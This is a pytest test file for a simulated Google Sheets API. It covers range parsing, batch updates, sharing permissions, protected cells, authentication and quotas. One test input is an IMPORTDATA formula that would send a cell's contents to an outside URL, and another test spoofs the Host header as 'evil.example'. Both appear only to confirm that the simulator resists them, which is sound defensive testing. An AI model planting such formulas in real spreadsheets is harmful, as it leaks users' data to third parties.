"""The simulated Sheets API takes what Google takes and refuses what Google refuses."""

from pathlib import Path
from urllib.parse import quote

import pytest
from simulated import Api, caller, error, write

from addon.simulator.grid import Area
from addon.simulator.server import Simulator

ROWS = [["id", "text", "summary"], ["1", "one", ""], ["", "", ""], ["3", "", "三"], ["", "", ""]]


@pytest.fixture
def sid(simulator: Simulator) -> str:
    return simulator.workbooks.create("Inquiries", ROWS)


def test_spreadsheet_ids_look_like_google_s(sid: str) -> None:
    assert len(sid) == 44


def test_get_shows_titles_zone_and_sheets_and_honours_fields(api: Api, sid: str) -> None:
    whole = api.ok("GET", f"/v4/spreadsheets/{sid}")
    assert whole["properties"]["title"] == "Inquiries"
    fields = (
        "properties(title,timeZone),sheets.properties(sheetId,title,gridProperties(rowCount,columnCount))"
    )
    assert api.ok("GET", f"/v4/spreadsheets/{sid}", params={"fields": fields}) == {
        "properties": {"title": "Inquiries", "timeZone": "Etc/GMT"},
        "sheets": [
            {
                "properties": {
                    "sheetId": 0,
                    "title": "Sheet1",
                    "gridProperties": {"rowCount": 1000, "columnCount": 26},
                }
            }
        ],
    }
    assert "nonsense" in error(api("GET", f"/v4/spreadsheets/{sid}", params={"fields": "nonsense"}), 400)
    assert error(api("GET", f"/v4/spreadsheets/{sid}", params={"fields": "sheets("}), 400)


def test_trailing_blanks_of_rows_and_of_the_range_are_left_out(api: Api, sid: str) -> None:
    assert api.values(sid) == [["id", "text", "summary"], ["1", "one"], [], ["3", "", "三"]]


def test_an_empty_range_has_no_values_key(api: Api, sid: str) -> None:
    (found,) = api.read(sid, {"startRowIndex": 500, "endRowIndex": 510})
    assert found["valueRange"] == {"range": "Sheet1!A501:Z510", "majorDimension": "ROWS"}


def test_filters_of_the_same_range_share_an_entry(api: Api, sid: str) -> None:
    column = {"startRowIndex": 1, "endRowIndex": 4, "startColumnIndex": 0, "endColumnIndex": 1}
    found = api.read(sid, column, column, {"startRowIndex": 0, "endRowIndex": 1})
    assert [len(item["dataFilters"]) for item in found] == [2, 1]
    assert found[0]["dataFilters"][0] == {"gridRange": {"sheetId": 0, **column}}


def test_reading_by_columns_is_trimmed_too(api: Api, sid: str) -> None:
    body = {
        "dataFilters": [{"gridRange": {"sheetId": 0, "endRowIndex": 3, "endColumnIndex": 3}}],
        "majorDimension": "COLUMNS",
    }
    found = api.ok("POST", f"/v4/spreadsheets/{sid}/values:batchGetByDataFilter", body)
    assert found["valueRanges"][0]["valueRange"]["values"] == [["id", "1"], ["text", "one"], ["summary"]]


@pytest.mark.parametrize(
    ("grid_range", "sentence"),
    [
        ({"sheetId": 7}, "No grid with id: 7"),
        ({"startRowIndex": 990, "endRowIndex": 1001}, "exceeds grid limits. Max rows: 1000, max columns: 26"),
        ({"startColumnIndex": 26, "endColumnIndex": 27}, "exceeds grid limits"),
        ({"startRowIndex": 5, "endRowIndex": 5}, "after its start"),
    ],
)
def test_ranges_outside_the_grid_are_refused(api: Api, sid: str, grid_range: dict, sentence: str) -> None:
    body = {"dataFilters": [{"gridRange": {"sheetId": 0, **grid_range}}]}
    assert sentence in error(api("POST", f"/v4/spreadsheets/{sid}/values:batchGetByDataFilter", body), 400)


@pytest.mark.parametrize(
    ("cells", "values"),
    [
        ("Sheet1!A2:B2", [["1", "one"]]),
        ("A1", [["id"]]),
        ("'Sheet1'!C:C", [["summary"], [], [], ["三"]]),
        ("Sheet1!1:1", [["id", "text", "summary"]]),
        ("Sheet1!A4:Z5000", [["3", "", "三"]]),
    ],
)
def test_a1_ranges(api: Api, sid: str, cells: str, values: list) -> None:
    assert api.ok("GET", f"/v4/spreadsheets/{sid}/values/{quote(cells, safe='')}")["values"] == values


@pytest.mark.parametrize("cells", ["Nope!A1", "Sheet1!", "'Sheet1!A1", "A0", "Sheet 1"])
def test_what_is_no_range_is_refused(api: Api, sid: str, cells: str) -> None:
    path = f"/v4/spreadsheets/{sid}/values/{quote(cells, safe='')}"
    assert "Unable to parse range" in error(api("GET", path), 400)


def test_a_title_that_looks_like_a_cell_is_taken_for_one(api: Api, simulator: Simulator, sid: str) -> None:
    simulator.workbooks.get(sid).add_sheet("Q1")
    simulator.workbooks.get(sid).set_cell(0, 0, 16, "from Sheet1")
    assert api.ok("GET", f"/v4/spreadsheets/{sid}/values/Q1")["values"] == [["from Sheet1"]]
    assert api.ok("GET", f"/v4/spreadsheets/{sid}/values/%27Q1%27")["range"] == "'Q1'!A1:Z1000"


def test_a_text_stays_text_whatever_it_looks_like(api: Api, sid: str) -> None:
    texts = [
        "=1+1",
        '=IMPORTDATA("https://x/?d="&B2)',
        "+49 151",
        "00123",
        "'quoted",
        "TRUE",
        "@home",
        "😀\n二",
    ]
    assert api.change(sid, write(1, 2, *texts)).status_code == 200
    path = f"/v4/spreadsheets/{sid}/values/Sheet1!C2:C9"
    for option in ("FORMATTED_VALUE", "FORMULA", "UNFORMATTED_VALUE"):
        found = api.ok("GET", path, params={"valueRenderOption": option})
        assert [row[0] for row in found["values"]] == texts


def test_cells_left_out_of_a_row_are_kept_and_blank_ones_are_cleared(api: Api, sid: str) -> None:
    body = {
        "start": {"sheetId": 0, "rowIndex": 0, "columnIndex": 1},
        "rows": [{"values": [{}]}, {}, {"values": [{"userEnteredValue": {"stringValue": ""}}]}],
        "fields": "userEnteredValue",
    }
    assert api.change(sid, {"updateCells": body}).status_code == 200
    assert api.values(sid) == [["id", "", "summary"], ["1", "one"], [], ["3", "", "三"]]


def test_a_range_clears_what_its_rows_do_not_give(api: Api, sid: str) -> None:
    body = {"range": {"sheetId": 0, "endRowIndex": 2, "endColumnIndex": 2}, "fields": "userEnteredValue"}
    assert api.change(sid, {"updateCells": {**body, "rows": []}}).status_code == 200
    assert api.values(sid)[:2] == [["", "", "summary"], []]


@pytest.mark.parametrize(
    ("bad", "sentence"),
    [
        (write(5, 2, "x" * 50_001), "more than the maximum of 50000 characters in a single cell"),
        (write(5, 2, "😀" * 25_001), "50000 characters"),
        (write(1000, 0, "x"), "after last row in grid"),
        (write(1, 26, "x"), "after last column in grid"),
        (write(999, 0, "x", "y"), "beyond the last requested row of: 999"),
        (write(1, 0, "x", sheet_id=5), "No grid with id: 5"),
        (
            {"deleteDimension": {"range": {"dimension": "ROWS", "startIndex": 999, "endIndex": 1001}}},
            "delete a row",
        ),
        (
            {"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 400_000}},
            "limit of 10000000 cells",
        ),
        ({"deleteSheet": {"sheetId": 0}}, "remove all the visible sheets"),
        ({"addSheet": {"properties": {"title": "sheet1"}}}, "already exists"),
        ({"updateCells": {"start": {"sheetId": 0}, "rows": []}}, "At least one field must be listed"),
        ({}, "exactly one kind"),
    ],
)
def test_one_bad_request_rejects_the_whole_batch(
    api: Api, simulator: Simulator, sid: str, bad: dict, sentence: str
) -> None:
    before, revision = api.values(sid), simulator.workbooks.get(sid).revision
    message = error(api.change(sid, write(1, 2, "good"), bad, write(2, 2, "also good")), 400)
    assert sentence in message
    assert "requests[1]" in message
    assert api.values(sid) == before
    assert simulator.workbooks.get(sid).revision == revision


def test_a_new_column_can_be_made_and_written_in_one_batch(api: Api, sid: str) -> None:
    grow = {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 1}}
    assert api.change(sid, grow, write(0, 26, "Summary")).status_code == 200
    assert api.read(sid, {"startColumnIndex": 26})[0]["valueRange"]["values"] == [["Summary"]]


def test_50000_characters_are_accepted(api: Api, sid: str) -> None:
    assert api.change(sid, write(1, 2, "x" * 50_000)).status_code == 200


def test_rows_can_be_sorted_inserted_and_deleted(api: Api, simulator: Simulator, sid: str) -> None:
    book = simulator.workbooks.get(sid)
    for row in range(1, 5):
        book.set_cell(0, row, 0, ["b", "", "C", "a"][row - 1])
        book.set_cell(0, row, 1, str(row))
    area = {"sheetId": 0, "startRowIndex": 1, "startColumnIndex": 0}
    assert api.change(
        sid, {"sortRange": {"range": area, "sortSpecs": [{"dimensionIndex": 0, "sortOrder": "ASCENDING"}]}}
    ).ok
    assert [row[1] for row in api.values(sid)[1:]] == ["4", "1", "3", "2"]
    insert = {
        "insertDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 3}}
    }
    delete = {
        "deleteDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 3, "endIndex": 4}}
    }
    assert api.change(sid, insert, delete).ok
    assert api.values(sid)[1:4] == [[], [], ["b", "1"]]
    assert book.sheet(0).row_count == 1001


def test_columns_can_be_inserted_and_deleted(api: Api, sid: str) -> None:
    span = {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 1, "endIndex": 2}
    assert api.change(sid, {"insertDimension": {"range": span}}).ok
    assert api.values(sid)[1] == ["1", "", "one"]
    assert api.change(sid, {"deleteDimension": {"range": {**span, "startIndex": 0}}}).ok
    assert api.values(sid)[1] == ["one"]


def test_sheets_are_added_renamed_hidden_and_deleted_and_0_is_a_sheet(api: Api, sid: str) -> None:
    added = api.change(sid, {"addSheet": {"properties": {"title": "二"}}}).json()
    new = added["replies"][0]["addSheet"]["properties"]["sheetId"]
    assert new > 0
    properties = {"sheetId": 0, "title": "renamed", "hidden": True}
    update = {"updateSheetProperties": {"properties": properties, "fields": "title,hidden"}}
    assert api.change(sid, update).ok
    assert api.ok("GET", f"/v4/spreadsheets/{sid}/values/A1")["range"] == "'二'!A1"
    assert api.values(sid)[0][0] == "id"  # by its id it is found under any title
    assert api.change(sid, {"deleteSheet": {"sheetId": 0}}).ok
    message = error(api.change(sid, write(0, 0, "x")), 400)
    assert message == "Invalid requests[0].updateCells: No grid with id: 0"


def test_the_worker_sees_a_workbook_only_while_it_is_shared(api: Api, simulator: Simulator, sid: str) -> None:
    email = simulator.identity.worker.email
    with caller(simulator, simulator.identity.worker) as worker:
        assert error(worker("GET", f"/v4/spreadsheets/{sid}"), 403) == "The caller does not have permission"
        grant = {"type": "user", "role": "reader", "emailAddress": email}
        api.ok("POST", f"/drive/v3/files/{sid}/permissions", grant)
        assert worker.values(sid)
        assert error(worker.change(sid, write(1, 2, "x")), 403)
        shared = api.ok("POST", f"/drive/v3/files/{sid}/permissions", grant | {"role": "writer"})
        assert worker.change(sid, write(1, 2, "x")).ok
        assert api("DELETE", f"/drive/v3/files/{sid}/permissions/{shared['id']}").status_code == 204
        assert error(worker("GET", f"/v4/spreadsheets/{sid}"), 403)


def test_protected_cells_are_for_the_owner_and_the_editors(api: Api, simulator: Simulator, sid: str) -> None:
    book, worker = simulator.workbooks.get(sid), simulator.identity.worker
    simulator.files.share(simulator.files.get(sid, simulator.identity.user.email), worker.email, "writer")
    book.protect(0, Area(0, 10, 2, 3))
    with caller(simulator, worker) as other:
        assert "protected cell or object" in error(other.change(sid, write(1, 2, "x")), 400)
        assert other.change(sid, write(1, 1, "x")).ok
        shown = other.ok("GET", f"/v4/spreadsheets/{sid}")["sheets"][0]["protectedRanges"]
        assert shown[0]["requestingUserCanEdit"] is False
    assert api.change(sid, write(1, 2, "x")).ok


@pytest.mark.parametrize("token", ["", "Bearer nobody", "Basic abc"])
def test_strangers_are_refused(simulator: Simulator, api: Api, sid: str, token: str) -> None:
    response = api("GET", f"/v4/spreadsheets/{sid}", headers={"Authorization": token})
    error(response, 401)
    assert response.json()["error"]["status"] == "UNAUTHENTICATED"


def test_an_unknown_spreadsheet_is_not_found(api: Api) -> None:
    assert error(api("GET", f"/v4/spreadsheets/{'x' * 44}"), 404) == "Requested entity was not found."


def test_other_names_for_this_machine_are_refused(api: Api, sid: str) -> None:
    response = api("GET", f"/file/d/{sid}/view", headers={"Host": "evil.example"})
    assert response.status_code == 403


def test_the_quota_counts_reads_and_writes_of_each_caller_per_minute(tmp_path: Path) -> None:
    now = [60.0 * 1000]
    with Simulator(tmp_path / "state", quota=2, clock=lambda: now[0]) as simulator:
        sid = simulator.workbooks.create("Inquiries", ROWS)
        with caller(simulator) as api, caller(simulator, simulator.identity.worker) as worker:
            assert [api("GET", f"/v4/spreadsheets/{sid}").status_code for _ in range(3)] == [200, 200, 429]
            assert api.change(sid, write(1, 2, "x")).ok
            assert worker("GET", f"/v4/spreadsheets/{sid}").status_code == 403
            refused = api("GET", f"/v4/spreadsheets/{sid}")
            assert "Read requests per minute per user" in error(refused, 429)
            assert refused.json()["error"]["status"] == "RESOURCE_EXHAUSTED"
            now[0] += 60
            assert api("GET", f"/v4/spreadsheets/{sid}").ok


def test_a_connection_stays_open_for_many_requests(simulator: Simulator, api: Api, sid: str) -> None:
    accepted: list[object] = []
    original = simulator._server.opened
    simulator._server.opened = lambda connection: (accepted.append(connection), original(connection))
    for _ in range(5):
        api.values(sid)
    assert len(accepted) == 1
